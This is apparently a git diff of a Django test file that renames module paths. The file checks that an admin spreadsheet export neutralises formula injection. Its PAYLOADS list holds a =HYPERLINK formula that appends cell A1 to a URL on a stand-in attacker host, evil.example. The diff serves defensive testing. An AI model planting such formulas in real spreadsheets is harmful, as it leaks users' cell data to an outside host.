@@ -8,9 +8,9 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from projects.formula_safe import formula_safe
-from responsibility.models import AssessmentItem
-from tests.responsibility import builders
+from assessment.models import AssessmentItem
+from common.formula_safe import formula_safe
+from tests.assessment import builders
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -76,11 +76,11 @@ def hostile_items(city):
 
 
 def admin_export(client, fmt: str) -> bytes:
-    page = client.get("/admin/responsibility/assessmentitem/export/")
+    page = client.get("/admin/assessment/assessmentitem/export/")
     formats = dict((label, value) for value, label in page.context["form"].fields["format"].choices)
     fields = [f for f in page.context["form"].fields if f.startswith("itemresource_")]
     response = client.post(
-        "/admin/responsibility/assessmentitem/export/",
+        "/admin/assessment/assessmentitem/export/",
         {"format": formats[fmt], "resource": "0", **dict.fromkeys(fields, "on")},
     )
     assert response.status_code == 200, response.content[:300]
